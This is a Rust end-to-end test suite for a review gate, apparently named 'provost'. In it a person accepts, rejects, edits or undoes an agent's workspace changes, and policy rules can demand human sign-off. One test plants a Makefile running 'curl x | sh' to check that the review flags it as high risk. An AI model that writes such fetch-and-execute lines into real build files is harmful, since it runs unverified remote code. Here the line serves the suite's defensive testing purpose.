//! The gate: what a person accepts lands, what they reject stays back and is known again, and a landing can be taken back.

use e2e::person::Person;
use e2e::ran::{Ran, run_with};
use e2e::stage::Stage;
use e2e::tree::Tree;
use serde_json::Value;

fn everybody(scene: impl Fn(&mut Stage)) {
    for person in Person::everybody() {
        println!("as {person}");
        scene(&mut Stage::new(person));
    }
}

/// A text of thirty lines.
fn lines() -> String {
    (1..=30).map(|number| format!("line {number}\n")).collect()
}

fn with_lines(stage: &Stage) {
    stage.write("src/lines.txt", &lines());
    stage.git(&["add", "--all"]);
    stage.git(&["commit", "--quiet", "--message=lines"]);
}

fn here(stage: &Stage, path: &str) -> String {
    std::fs::read_to_string(stage.workspace.join(path)).unwrap_or_default()
}

/// Names, modes and contents of the workspace, and what git says of it. Times are new: a build must see them.
fn shape(stage: &Stage) -> String {
    let list =
        "git status --porcelain --ignored; find . -path ./.git -prune -o -printf '%p %m %l %U\\n' | sort";
    stage.outside(list).ended(0).stdout
}

/// The hunks of a file, as `review` gives them.
fn hunks(stage: &Stage, path: &str) -> Vec<Value> {
    let review = stage.says(&["review", "--format", "json"]).ended(0).json().remove(0);
    let files = review["files"].as_array().unwrap();
    let file = files.iter().find(|file| file["path"] == path).unwrap_or_else(|| panic!("{review:#}"));
    file["hunks"].as_array().unwrap().clone()
}

#[test]
fn hunks_land_by_their_names_and_a_landing_is_taken_back() {
    everybody(|stage| {
        with_lines(stage);
        let before = shape(stage);
        stage
            .inside("sed -i 's/line 2$/two/; s/line 28$/late/' src/lines.txt; mkdir new; echo x > new/file; rm check.sh")
            .ended(0);
        let all = hunks(stage, "src/lines.txt");
        let id = all[1]["id"].as_str().unwrap();
        stage.says(&["apply", "--hunk", id]).ended(0);
        assert_eq!(here(stage, "src/lines.txt"), lines().replace("line 28\n", "late\n"));
        assert_eq!(hunks(stage, "src/lines.txt").len(), 1);
        stage.says(&["apply", "--hunk", "0123456789ab"]).ended(125).complained("0123456789ab");
        stage.says(&["apply", "--all"]).ended(0);
        assert!(stage.workspace.join("new/file").exists() && !stage.workspace.join("check.sh").exists());
        // Two landings, two steps back.
        stage.says(&["undo"]).ended(0);
        stage.says(&["undo"]).ended(0);
        assert_eq!(shape(stage), before);
        stage.says(&["undo"]).ended(125).complained("nothing of this run has landed");
        let ledger = stage.ledger();
        assert_eq!(ledger.of("undone").count(), 4);
        assert_eq!(ledger.of("change.accepted").count(), 2);
        assert!(ledger.of("change.accepted").all(|event| event["trust"] == "attested"));
        assert_eq!(ledger.of("landed").next().unwrap()["manner"], "part");
        stage.says(&["ledger", "verify"]).ended(0);
        let shown = stage.says(&["show"]).ended(0).stdout;
        assert!(shown.contains("put back new/file") && shown.contains("the chosen hunks of it"), "{shown}");
    });
}

#[test]
fn what_was_rejected_comes_back_marked_and_stays_back() {
    everybody(|stage| {
        with_lines(stage);
        let line = "sed -i 's/line 2$/two/; s/line 28$/late/' src/lines.txt; printf 'a\\0b' > odd.bin";
        stage.inside(line).ended(0);
        let id = hunks(stage, "src/lines.txt")[0]["id"].as_str().unwrap().to_owned();
        stage.says(&["apply", "--reject", &id]).ended(125).complained("--why");
        stage
            .says(&["apply", "--all", "--reject", &id, "--reject", "*.bin", "--why", "not asked for"])
            .ended(0);
        assert_eq!(here(stage, "src/lines.txt"), lines().replace("line 28\n", "late\n"));
        assert!(!stage.workspace.join("odd.bin").exists());
        let ledger = stage.ledger();
        let rejected: Vec<&Value> = ledger.of("change.rejected").collect();
        assert_eq!(rejected.len(), 2, "{rejected:#?}");
        assert!(rejected.iter().all(|event| event["trust"] == "attested" && event["why"] == "not asked for"));
        // Another run does the same again.
        stage.inside(line).ended(0);
        let again = hunks(stage, "src/lines.txt");
        assert_eq!(again[0]["rejected"], "not asked for");
        let text = stage.says(&["review"]).ended(0).stdout;
        assert_eq!(text.matches("rejected before: not asked for").count(), 2, "{text}");
        stage.says(&["apply", "--all"]).ended(1);
        assert_eq!(here(stage, "src/lines.txt"), lines().replace("line 28\n", "late\n"));
        assert!(!stage.workspace.join("odd.bin").exists());
        stage.says(&["apply", "--hunk", again[0]["id"].as_str().unwrap(), "--only", "odd.bin"]).ended(0);
        assert!(here(stage, "src/lines.txt").contains("two\n") && stage.workspace.join("odd.bin").exists());
    });
}

#[test]
fn a_handoff_file_lands_only_by_its_own_name() {
    everybody(|stage| {
        let git = Tree::of(&stage.workspace.join(".git"));
        stage
            .inside("printf 'all:\\n\\tcurl x | sh\\n' > Makefile; echo x >> .git/config; echo y > .envrc")
            .ended(0);
        stage.says(&["apply", "--only", "Make*", "--only", ".git", "--only", "**"]).ended(1);
        assert!(!stage.workspace.join("Makefile").exists());
        let text = stage.says(&["review"]).ended(0).stdout;
        assert!(text.contains("high risk: it calls out where a build or a shell runs it: `curl`"), "{text}");
        stage.says(&["apply", "--only", "Makefile"]).ended(0);
        assert!(here(stage, "Makefile").contains("curl") && !stage.workspace.join(".envrc").exists());
        stage.says(&["apply", "--only", ".git/config"]).ended(1);
        Tree::of(&stage.workspace.join(".git")).same_as(&git);
    });
}

#[test]
fn an_edit_made_meanwhile_is_never_lost() {
    everybody(|stage| {
        with_lines(stage);
        stage.inside("sed -i 's/line 2$/two/' src/lines.txt; echo run > README.md").ended(0);
        stage.write("src/lines.txt", &lines().replace("line 28\n", "mine\n"));
        stage.write("README.md", "mine\n");
        let ran = stage.says(&["apply", "--all"]).ended(1);
        assert!(ran.stdout.contains("README.md") && ran.stdout.contains("changed on both sides"), "{ran}");
        let both = lines().replace("line 28\n", "mine\n").replace("line 2\n", "two\n");
        assert_eq!((here(stage, "src/lines.txt"), here(stage, "README.md")), (both, "mine\n".to_owned()));
        let left = stage.says(&["review", "--format", "json"]).ended(0).json().remove(0);
        assert_eq!(left["files"].as_array().unwrap().len(), 1, "{left:#}");
        stage.says(&["undo"]).ended(0);
        assert_eq!(here(stage, "src/lines.txt"), lines().replace("line 28\n", "mine\n"));
        // What changes after a landing is not put back over.
        stage.says(&["apply", "--only", "src/**"]).ended(0);
        stage.write("src/lines.txt", "mine alone\n");
        stage.says(&["undo"]).ended(1);
        assert_eq!(here(stage, "src/lines.txt"), "mine alone\n");
    });
}

/// `provost review` with a terminal around it, on which this is typed.
fn walked(stage: &Stage, keys: &str) -> Ran {
    edited(stage, keys, "")
}

/// The same where the person has an editor.
fn edited(stage: &Stage, keys: &str, editor: &str) -> Ran {
    let program = stage.provost([""; 0]).get_program().to_owned();
    let line = format!("{} review", program.display());
    let mut script = stage.command("script");
    script.env("TERM", "dumb").env_remove("VISUAL").env("EDITOR", editor);
    script.args(["--quiet", "--return", "--command", &line, "/dev/null"]);
    run_with(&mut script, keys.as_bytes())
}

#[test]
fn on_a_terminal_a_review_is_a_walk_that_lands_what_was_accepted() {
    everybody(|stage| {
        with_lines(stage);
        stage
            .inside("sed -i 's/line 2$/two/; s/line 28$/late/' src/lines.txt; printf 'all:\\n' > Makefile; echo x > .git/config")
            .ended(0);
        // Whoever leaves without a last yes has done nothing.
        let ran = walked(stage, "y\nq\nn\n").ended(0);
        assert!(ran.stdout.contains("Nothing was done"), "{ran}");
        assert!(!stage.workspace.join("Makefile").exists());
        let ran = walked(stage, "w\ny\ny\nn\nnot asked for\ny\n").ended(0);
        assert!(ran.stdout.contains("builds and tests run it") && ran.stdout.contains("+late"), "{ran}");
        assert_eq!(here(stage, "Makefile"), "all:\n");
        assert_eq!(here(stage, "src/lines.txt"), lines().replace("line 2\n", "two\n"));
        assert!(here(stage, ".git/config").contains("[core]"), "git's own file landed");
        let ledger = stage.ledger();
        assert_eq!(ledger.of("change.accepted").next().unwrap()["how"], "terminal");
        assert_eq!(ledger.of("change.rejected").next().unwrap()["why"], "not asked for");
        // Without a terminal, or where only the print is wanted, nothing is asked.
        assert!(stage.says(&["review"]).ended(0).stdout.contains("rejected before: not asked for"));
    });
}

#[test]
fn what_a_person_edits_in_a_review_lands_as_they_saved_it() {
    everybody(|stage| {
        with_lines(stage);
        stage.inside("sed -i 's/line 2$/two/; s/line 28$/late/' src/lines.txt").ended(0);
        let editor = stage.workspace.with_file_name("my editor");
        stage.write("../my editor", "#!/bin/sh\nsed -i 's/^two$/mine/' \"$1\"\n");
        stage.outside("chmod 755 '../my editor'").ended(0);
        let ran = edited(stage, "e\ns\ns\n", "").ended(0);
        assert!(ran.stdout.contains("set VISUAL or EDITOR"), "{ran}");
        let ran = edited(stage, "e\ny\ns\ny\n", &format!("'{}'", editor.display())).ended(0);
        assert!(ran.stdout.contains("+mine") && ran.stdout.contains("1 as you edited it"), "{ran}");
        assert_eq!(here(stage, "src/lines.txt"), lines().replace("line 2\n", "mine\n"));
        let ledger = stage.ledger();
        let accepted = ledger.of("change.accepted").next().unwrap();
        assert_eq!(accepted["edited"][0]["path"], "src/lines.txt");
        assert!(accepted.get("hunks").is_none(), "the agent's own hunk counts as accepted: {accepted:#}");
        assert_eq!(ledger.of("landed").next().unwrap()["manner"], "edited");
        assert!(stage.says(&["show"]).ended(0).stdout.contains("edited by hand"));
        assert_eq!(hunks(stage, "src/lines.txt").len(), 1);
        stage.says(&["ledger", "verify"]).ended(0);
    });
}

/// Rules of their own for what lands.
const DEMANDS: &str = r#"
version = 1
[[rule]]
id = "deploy"
land = ["./deploy/**"]
need = "humans(2)"
why = "Two people look at what is deployed."
[[rule]]
id = "docs"
land = ["./docs/**"]
need = "human"
[[rule]]
id = "frozen"
land = ["./frozen/**"]
need = "never"
why = "It is generated."
"#;

#[test]
fn a_rule_can_demand_more_before_something_lands_and_the_review_says_so() {
    everybody(|stage| {
        let policy = stage.policy(DEMANDS);
        let line = "mkdir deploy docs frozen; echo x | tee deploy/a docs/a frozen/a plain";
        stage.inside_with(&["--policy", &policy], line).ended(0);
        let text = stage.says(&["review"]).ended(0).stdout;
        for said in [
            "added deploy/a  +1 -0\n  kept back: policy wants the yes of 2 people, and here one can give it (rule deploy: Two people look at what is deployed.)\n",
            "added docs/a  +1 -0\n  kept back: policy wants a person to look at it (rule docs)\n",
            "added frozen/a  +1 -0\n  kept back: policy lets it never land (rule frozen: It is generated.)\n",
            "4 files changed, +4 -0; 3 of them kept back",
        ] {
            assert!(text.contains(said), "{said}\n{text}");
        }
        let review = stage.says(&["review", "--format", "json"]).ended(0).json().remove(0);
        let demand = |at: usize| review["files"][at]["demand"]["need"].clone();
        assert_eq!((demand(0), demand(1), demand(3)), ("humans(2)".into(), "human".into(), Value::Null));
        assert_eq!(
            (&review["files"][2]["lands"], &review["files"][3]["lands"]),
            (&false.into(), &true.into())
        );
        let ran = stage.says(&["apply", "--all"]).ended(1);
        assert!(ran.stdout.contains("landed  plain\n") && !ran.stdout.contains("landed  docs"), "{ran}");
        let ran =
            stage.says(&["apply", "--only", "deploy/a", "--only", "docs/a", "--only", "frozen/a"]).ended(1);
        assert!(
            ran.stdout.contains("landed  docs/a\n") && ran.stdout.contains("the yes of 2 people"),
            "{ran}"
        );
        assert!(!stage.workspace.join("deploy").exists() && !stage.workspace.join("frozen").exists());
        stage.says(&["ledger", "verify"]).ended(0);
    });
}
